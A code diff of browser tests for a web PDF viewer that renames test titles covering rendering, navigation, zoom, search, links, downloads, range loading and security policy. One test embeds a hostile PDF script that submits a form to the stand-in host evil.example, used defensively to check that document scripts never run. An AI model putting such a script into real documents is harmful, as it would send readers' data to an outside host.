@@ -65,7 +65,7 @@ const scaleOf = (page) =>
 const readers = { desktop: devices.desktop, phone: { ...devices.phone, deviceScaleFactor: 2 } };
 
 for (const [name, options] of Object.entries(readers)) {
-  test(`a document is drawn, fits and is accessible (${name})`, async () => {
+  test(`renders a document that fits and is accessible (${name})`, async () => {
     const { page, context, assertNoTrouble } = await openViewer(url, options);
     assert.equal(await page.title(), "Harbour report");
     assert.ok(await hasInk(page, 1));
@@ -82,7 +82,7 @@ for (const [name, options] of Object.entries(readers)) {
   });
 }
 
-test("pages are turned by buttons, by number and by keys", async () => {
+test("turns pages by button, number and keyboard", async () => {
   const { page, context, assertNoTrouble } = await openViewer(url);
   const is = async (number) => {
     await page.waitForFunction((n) => document.getElementById("pdf-page").value === n, String(number));
@@ -119,7 +119,7 @@ test("pages are turned by buttons, by number and by keys", async () => {
   await context.close();
 });
 
-test("the zoom goes in, out, to the width and to the page, and follows the window", async () => {
+test("zooms in, out, to the width and the page, and follows the window", async () => {
   const { page, context, assertNoTrouble } = await openViewer(url, {
     viewport: { width: 1000, height: 800 },
   });
@@ -151,7 +151,7 @@ test("the zoom goes in, out, to the width and to the page, and follows the windo
   await context.close();
 });
 
-test("a word is found, counted and shown, from the keyboard alone", async () => {
+test("finds, counts and shows a word by keyboard alone", async () => {
   const { page, context, assertNoTrouble } = await openViewer(url);
   await page.keyboard.press("Control+f");
   const field = page.getByLabel("Search document");
@@ -177,7 +177,7 @@ test("a word is found, counted and shown, from the keyboard alone", async () => 
   await context.close();
 });
 
-test("text is there to be selected", async () => {
+test("text can be selected", async () => {
   const { page, context } = await openViewer(url);
   const selected = await layer(page, 1).evaluate((element) => {
     getSelection().selectAllChildren(element);
@@ -192,7 +192,7 @@ test("text is there to be selected", async () => {
   await context.close();
 });
 
-test("links lead to the web in a tab of their own, and within the document", async () => {
+test("links open the web in a new tab, and pages of the document", async () => {
   const { page, context, assertNoTrouble } = await openViewer(url);
   const links = page.locator('.page[data-page-number="1"] .annotationLayer a[href]');
   await links.first().waitFor();
@@ -206,7 +206,7 @@ test("links lead to the web in a tab of their own, and within the document", asy
   await context.close();
 });
 
-test("the download is offered where the link allows it, and gives the file", async () => {
+test("offers the download if the link allows it", async () => {
   const { page, context } = await openViewer(url);
   const [download] = await Promise.all([
     page.waitForEvent("download"),
@@ -223,7 +223,7 @@ test("the download is offered where the link allows it, and gives the file", asy
   await closed.context.close();
 });
 
-test("no script of a document runs, and nothing leads to a script", async () => {
+test("runs no script of a document", async () => {
   const evil = "app.alert('executed'); this.submitForm('https://evil.example/'); window.executed = true;";
   const link = await linkTo(
     pdf([["A document with scripts"]], {
@@ -241,7 +241,7 @@ test("no script of a document runs, and nothing leads to a script", async () => 
   await context.close();
 });
 
-test("a large file comes in ranges, and opens before all of it is there", async () => {
+test("loads a large file in ranges and opens before it is complete", async () => {
   const link = await linkTo(pdf([["Large"], ["Second"]], { filler: 5_000_000 }));
   const context = await browser.newContext({ ignoreHTTPSErrors: true });
   const page = await context.newPage();
@@ -255,7 +255,7 @@ test("a large file comes in ranges, and opens before all of it is there", async 
   await context.close();
 });
 
-test("a scan is decoded without WebAssembly", async () => {
+test("decodes a scan without WebAssembly", async () => {
   const { page, context, assertNoTrouble } = await open(browser, await linkTo(scannedPdf()));
   await drawn(page, 1);
   assert.ok(await hasInk(page, 1));
@@ -423,7 +423,7 @@ test("the policy of a page lets it ask the document's site, and no other", async
   assert.match(own.headers["content-security-policy"], /connect-src 'self';/);
 });
 
-test("a document that the service makes of Markdown is shown like any other", async () => {
+test("shows a document generated from Markdown like any other", async () => {
   const content = { markdown: "# Minutes\n\nThe lamp was **renewed**.\n\nהמנורה" };
   const { url } = await share(key, { template: "pdf", title: "Minutes", content });
   const { page, context, assertNoTrouble } = await open(browser, url);
